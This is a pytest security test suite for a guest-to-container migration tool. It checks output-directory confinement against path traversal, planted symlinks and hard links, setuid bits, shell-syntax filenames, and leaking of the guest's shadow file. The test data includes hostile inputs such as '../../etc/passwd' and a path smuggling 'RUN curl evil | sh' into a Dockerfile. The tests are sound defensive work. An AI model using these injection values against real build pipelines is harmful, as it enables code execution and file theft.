"""Issue 8 D1: guest-chosen paths never make `convert` write outside OUTDIR (docs/security.md)."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from migrate.errors import EXIT_CODES, OutputEscape
from migrate.fsutil import ConfinedDir, guest_relpath, safe_mode
from tests.security.output_cases import escaping_paths_guest
from tests.security.snapshot import changes, snapshot, top_level


def migrate(*args: str, timeout: int = 300) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "migrate", *args], capture_output=True, text=True,
                          timeout=timeout)


def test_convert_keeps_climbing_guest_paths_inside_the_stack(tmp_path):
    guest = tmp_path / "guest"
    name = escaping_paths_guest(guest)
    out = tmp_path / "work" / "stack"
    out.parent.mkdir()
    (tmp_path / "work" / "bystander.txt").write_text("must stay as it is\n")
    before = snapshot(tmp_path, skip=(out,))
    tmp_before = top_level(Path("/tmp"))

    proc = migrate("convert", str(guest), "-o", str(out))

    assert proc.returncode == 0, proc.stderr
    after = snapshot(tmp_path, skip=(out,))
    assert changes(before, after) == [], "convert changed files outside OUTDIR"
    assert not {n for n in top_level(Path("/tmp")) - tmp_before if name in n}, "a guest path reached /tmp"
    assert not [p for p in after if name in p and not p.startswith(f"{guest}/")], "a guest name reached the host"
    # the climbing WorkingDirectory is the guest's /tmp/<name>: copied, but inside the app's context
    planted = out / "app" / "rootfs" / "tmp" / name / "planted.txt"
    assert planted.read_text() == "from the guest\n"
    # the nginx include that climbs out of /etc/nginx is the guest's /tmp/<name>/site.conf, in nginx's context
    assert (out / "nginx" / "rootfs" / "tmp" / name / "site.conf").is_file()
    # no host file of the stack carries setuid/setgid/sticky or world-writable bits
    for p in out.rglob("*"):
        st = p.lstat()
        assert not stat.S_ISLNK(st.st_mode), p
        assert st.st_mode & 0o7002 == 0, (p, oct(st.st_mode))
    suid = out / "app" / "rootfs" / "tmp" / name / "suid-ww"
    assert suid.stat().st_mode & 0o7777 == 0o775
    dockerfile = (out / "app" / "Dockerfile").read_text()
    # the image keeps the guest's mode; the path is quoted for the shell
    assert f"chmod 4777 /rootfs/tmp/{name}/suid-ww" in dockerfile
    # a file named as shell syntax is data in the build context, never run
    assert (out / "app" / "rootfs" / "tmp" / name / f"$(touch {name}-shell)").is_file()
    assert not Path(f"{name}-shell").exists()
    assert ".." not in "".join(line for line in dockerfile.splitlines() if "/rootfs" in line)


def test_guest_paths_are_normalised_from_the_guests_root():
    assert guest_relpath("/opt/app/../../../../tmp/x") == "tmp/x"
    assert guest_relpath("../../etc/passwd") == "etc/passwd"
    assert guest_relpath("//srv//./www/") == "srv/www"
    assert guest_relpath("/") == ""
    for bad in ("/etc/a\0b", "/etc/x\nRUN curl evil | sh", "/etc/\x1b[2J"):
        with pytest.raises(OutputEscape):
            guest_relpath(bad)


def test_confined_dir_refuses_links_planted_in_outdir(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    root = tmp_path / "out"
    root.mkdir()
    (root / "ctx").symlink_to(outside)  # a directory link planted where a build context goes
    (root / "file").symlink_to(outside / "target")  # a file link planted where a file goes
    with ConfinedDir(root) as out:
        for rel in ("ctx/rootfs/etc/passwd", "file", "a/../../outside/x", "/abs", "../x"):
            with pytest.raises(OutputEscape) as info:
                out.write_bytes(rel, b"x")
            assert info.value.exit_code == EXIT_CODES["OutputEscape"] == 35
        out.write_bytes("ok/inner.txt", b"fine", mode=0o6777)
    assert list(outside.iterdir()) == []
    st = os.lstat(root / "ok" / "inner.txt")
    assert stat.S_IMODE(st.st_mode) == safe_mode(0o6777) == 0o775


def test_existing_file_is_replaced_not_written_through(tmp_path):
    root = tmp_path / "out"
    root.mkdir()
    target = tmp_path / "victim"
    target.write_text("original\n")
    os.link(target, root / "hard")  # a hard link: writing through it would change the victim
    with ConfinedDir(root) as out:
        out.write_bytes("hard", b"new\n")
    assert target.read_text() == "original\n"
    assert (root / "hard").read_text() == "new\n"


def test_climbing_into_a_system_directory_does_not_ship_it(tmp_path):
    """WorkingDirectory=/opt/../etc normalises to /etc: the stack must not carry the guest's /etc
    (its shadow file) into a build context, whatever the plan says."""
    from tests.security.output_cases import base_guest, enable, unit, write

    guest = base_guest(tmp_path / "guest")
    write(guest, "/etc/shadow", "root:$6$SHADOW-HASH-MARKER$x:19000:0:99999:7:::\n", 0o640)
    enable(guest, "app.service", unit("/usr/bin/python3 /opt/app/app.py", user="app", workdir="/opt/../etc"))
    write(guest, "/opt/app/app.py", "print('app')\n")
    out = tmp_path / "stack"
    proc = migrate("convert", str(guest), "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    assert not [p for p in out.rglob("*") if p.is_file() and b"SHADOW-HASH-MARKER" in p.read_bytes()]
    assert (out / "app" / "rootfs" / "opt" / "app" / "app.py").is_file()  # the real app tree still ships

    # the planner no longer plans such a tree; the writer refuses it anyway, whatever a (hand-edited) plan says
    from migrate.generate import generate
    from migrate.model.plan import FileCopy, Plan
    from migrate.rootfs import RootFS

    plan = Plan.load(out / "plan.yaml")
    assert not [f for f in plan.container("app").files if f.source in ("/etc", "/opt/../etc")]
    plan.container("app").files.append(FileCopy(source="/opt/../etc", kind="tree", reason="edited by hand"))
    with RootFS.from_directory(guest) as fs:
        edited = generate(plan, tmp_path / "edited", fs).outdir
    assert not [p for p in edited.rglob("*") if p.is_file() and b"SHADOW-HASH-MARKER" in p.read_bytes()]
    assert "/etc is a system directory" in (edited / "README.md").read_text()


def test_capacity_report_is_not_written_through_a_planted_link(tmp_path):
    from migrate.capacity.fleet import load_csv
    from migrate.capacity.plan import plan
    from migrate.capacity.report import write_outputs

    fleet = Path(__file__).parents[1] / "data" / "fleet" / "sample-fleet.csv"
    rep = plan(load_csv(fleet), rule="moderate", fleet_source=fleet.name)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep\n")
    out = tmp_path / "report"
    out.mkdir()
    (out / "capacity.json").symlink_to(victim)
    with pytest.raises(OutputEscape):
        write_outputs(rep, out)
    assert victim.read_text() == "keep\n"
    (out / "capacity.json").unlink()
    paths = write_outputs(rep, out)
    assert all(p.is_file() and not p.is_symlink() for p in paths.values())
